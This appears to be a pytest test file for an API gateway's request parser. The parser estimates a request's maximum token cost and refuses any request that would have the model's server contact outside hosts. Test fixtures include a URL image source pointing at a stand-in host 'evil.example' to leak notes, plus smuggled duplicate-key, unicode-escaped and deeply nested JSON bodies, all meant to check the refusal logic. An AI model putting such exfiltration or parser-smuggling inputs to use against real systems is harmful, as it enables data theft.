"""Wish: what a request costs at most is read from it, and what would have the model's server reach out is refused."""

from __future__ import annotations

import json

import pytest

from parachuted.agents.gateway.wish import WishRefusedError, read_wish

MODEL = "claude-haiku-4-5"
PLAIN = {"model": MODEL, "max_tokens": 100, "messages": [{"role": "user", "content": "hi"}]}
SENT = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?all-the-notes"}}
REACHING = [
    {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]},
    {"container": "container_011CPR5CNjB747bTd36fQLFk"},
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
    {"tools": [{"type": ["custom"], "name": "x"}]},
    {"messages": [{"role": "user", "content": [SENT]}]},
    {"messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]},
    {"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [SENT]}]}]},
    {"messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "content", "content": [SENT]}}]}]},
    {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "file_1"}]}]},
    {"system": [SENT]},
]
PASSING = [
    {},
    {"tools": [{"name": "x", "input_schema": {"properties": {"source": {"type": "url"}}}}, {"type": "custom", "name": "y"}]},
    {"tools": [{"type": "bash_20250124", "name": "bash"}, {"type": "tool_search_tool_regex_20251119", "name": "tool_search"}]},
    {"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "data": "x"}}]}]},
    {"messages": [{"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "x", "input": {"source": SENT["source"]}}]}]},
    {"mcp_servers": []},
]


@pytest.mark.parametrize("part", REACHING, ids=str)
def test_a_request_reaches_nothing_but_the_model(part):
    with pytest.raises(WishRefusedError, match="reach nothing but the model"):
        read_wish(json.dumps({**PLAIN, **part}).encode())


@pytest.mark.parametrize("part", PASSING, ids=str)
def test_what_the_request_holds_itself_passes(part):
    assert read_wish(json.dumps({**PLAIN, **part}).encode()).model == MODEL


def test_no_second_reader_can_find_another_request_in_it():
    for body in (
        b'{"mcp_servers": [], "m\\u0063p_servers": [{"url": "https://evil.example"}]}',
        b'{"messages": [{"content": [{"source": {"type": "base64", "type": "url"}}]}]}',
        json.dumps(PLAIN).encode("utf-16"),
        b"[" * 100_000,
        b"[]",
        b"not json",
        b"",
    ):
        with pytest.raises(WishRefusedError):
            read_wish(body)


def test_the_most_that_it_takes_is_known_beforehand():
    wish = read_wish(json.dumps({**PLAIN, "metadata": {"x": "y" * 4_000}}).encode())
    assert wish.output == 100
    assert 1_000 <= wish.input <= 1_100
    assert {read_wish(json.dumps({"max_tokens": most}).encode()).output for most in (None, True, "1", 10**9, 1.5)} == {128_000}
